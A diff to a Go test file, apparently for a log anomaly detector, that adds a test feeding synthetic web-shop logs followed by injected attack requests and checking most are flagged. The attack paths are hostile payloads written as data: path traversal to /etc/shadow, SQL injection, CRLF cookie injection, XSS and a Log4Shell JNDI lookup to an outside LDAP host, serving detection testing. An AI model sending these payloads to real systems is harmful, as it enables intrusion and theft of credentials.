@@ -38,3 +38,31 @@ func TestFieldEnding(t *testing.T) {
 	w.flags(`{"method":"GET","path":"/files/quarterly.php","status":200}`, `php`)
 	w.flags(`{"method":"GET","path":"/files/quarterly.php?v=7","status":200}`, `php`)
 }
+
+// Where few values stand, those that come back say what belongs there: an attack that was
+// learned does not make another one with the same signs usual. A third one in 700 records
+// may be no more than the first two.
+func TestFieldAttacksOneAfterTheOther(t *testing.T) {
+	rng := rand.New(rand.NewPCG(9, 12))
+	page := func(path string) string {
+		return fmt.Sprintf(`{"msg":"page served","path":"%s","session":"%08x","ms":%d}`, path, rng.Uint32(), 20+rng.IntN(60))
+	}
+	w := watch(t, func() string {
+		return page(pick(rng, "/", "/cart", "/checkout", "/product/66VCHSJNUP", "/product/OLJCESPC7Z", "/product/2ZYFJ3GM2N", "/product/L9ECAV7KIM"))
+	}, 500)
+	attacks := []string{
+		"/cart?q=%2e%2e%2f%2e%2e%2fwin.ini", "/cart?q=%00%0d%0aSet-Cookie:%20admin=1", "/product/66VCHSJNUP?id=1%20OR%201=1",
+		"/checkout?q=%n%n%s%s%x%x%n", "/product/OLJCESPC7Z?q=%2e%2e%2f%2e%2e%2fetc%2fshadow", "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+		"/cart?q=%24%7Bjndi:ldap://203.0.113.9/a%7D", "/product/L9ECAV7KIM?id=1%27%20UNION%20SELECT%201",
+	}
+	var missed []string
+	for _, attack := range attacks {
+		w.goOn(100)
+		if !w.see(page(attack)).Anomaly {
+			missed = append(missed, attack)
+		}
+	}
+	if len(missed) > len(attacks)/4 {
+		t.Errorf("%d of %d attacks are not flagged behind those before them: %s", len(missed), len(attacks), missed)
+	}
+}
